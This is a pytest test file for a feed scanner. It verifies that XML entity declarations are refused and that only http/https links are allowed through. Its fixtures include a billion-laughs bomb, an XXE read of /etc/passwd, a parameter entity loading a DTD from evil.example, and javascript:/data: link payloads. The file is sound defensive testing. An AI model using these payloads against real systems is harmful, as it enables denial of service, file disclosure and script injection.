"""scanner.sources.safety: XML bomb refusal and safe links."""

from __future__ import annotations

import time
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.sources.http import FetchError
from scanner.sources.safety import PROLOG_LIMIT, UnsafeContent, refuse_xml_bombs, safe_link

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title></channel></rss>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&xxe;</title></feed>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!-- a comment first -->
<!DOCTYPE r SYSTEM "x.dtd" [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<r/>"""

RSS_091 = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>News</title><link>https://example.com/</link>
<item><title>Hello</title><link>https://example.com/1</link></item></channel></rss>"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<?xml-stylesheet href="feed.xsl" type="text/xsl"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Releases</title>
<entry><title>v1.0</title><content type="html"><![CDATA[How XXE works:
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> - quoted in an article]]></content>
</entry></feed>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY,
                                      b"\xef\xbb\xbf" + BILLION_LAUGHS,
                                      BILLION_LAUGHS.decode().encode("utf-16"),
                                      BILLION_LAUGHS.replace(b"<!DOCTYPE", b"<!doctype"),
                                      BILLION_LAUGHS[:120]],  # truncated inside the subset
                         ids=["billion-laughs", "external-entity", "parameter-entity",
                              "utf8-bom", "utf16", "lower-case", "truncated"])
def test_entity_declarations_refused(document: bytes) -> None:
    with pytest.raises(UnsafeContent, match="declares entities in its DOCTYPE") as caught:
        refuse_xml_bombs(document, url="https://example.com/feed")
    assert isinstance(caught.value, FetchError)
    assert caught.value.url == "https://example.com/feed"


@pytest.mark.parametrize("document", [
    RSS_091, ATOM, b'{"version": "https://jsonfeed.org/version/1.1", "items": []}',
    b"<!DOCTYPE html><html><body><p>&amp; no entities</p></body></html>",
    b"", b"   ", b"<?xml version='1.0'?>", b"<!DOCTYPE x SYSTEM 'a[b].dtd'><x/>",
])
def test_ordinary_documents_pass(document: bytes) -> None:
    refuse_xml_bombs(document)


def test_overlong_prolog_refused() -> None:
    padding = b"<!-- " + b"x" * PROLOG_LIMIT + b" -->"
    with pytest.raises(UnsafeContent, match="prolog is longer than"):
        refuse_xml_bombs(b'<?xml version="1.0"?>' + padding + BILLION_LAUGHS[21:])


def test_bounded_time_on_large_documents() -> None:
    huge = RSS_091 + b"<item>" * 2_000_000
    hostile = b"<!DOCTYPE x [" + b"]" * 5_000_000
    started = time.perf_counter()
    refuse_xml_bombs(huge)
    with pytest.raises(UnsafeContent, match="prolog is longer than"):
        refuse_xml_bombs(hostile)  # no end of the DOCTYPE within the window
    assert time.perf_counter() - started < 0.5


# -- safe_link -------------------------------------------------------------------------------

@pytest.mark.parametrize(("link", "expected"), [
    ("https://openai.com/news/", "https://openai.com/news/"),
    ("  http://example.com/a?b=1#c\n", "http://example.com/a?b=1#c"),
    ("javascript:alert(1)", None), ("JaVaScRiPt:alert(1)", None),
    ("java\tscript:alert(1)", None), ("data:text/html,<script>x</script>", None),
    ("file:///etc/passwd", None), ("//evil.example/x", None), ("/relative", None),
    ("http:evil.example", None), ("https://", None), ("", None), (None, None),
])
def test_safe_link(link: str | None, expected: str | None) -> None:
    assert safe_link(link) == expected


LINKISH = st.builds(str.__add__, st.sampled_from(
    ["http://", "https://", "HTTPS://", "javascript:", "data:", "file:", "vbscript:", " ",
     "\x00http://", "http:\\\\", "//", ""]), st.text(max_size=30))


@given(st.one_of(LINKISH, st.text(max_size=40), st.none()))
def test_safe_link_never_returns_a_non_http_url(link: str | None) -> None:
    result = safe_link(link)
    if result is not None:
        assert result.lower().startswith(("http://", "https://"))
        assert urlsplit(result).scheme in ("http", "https") and urlsplit(result).hostname
        assert all(ord(ch) > 32 and ord(ch) != 127 for ch in result)
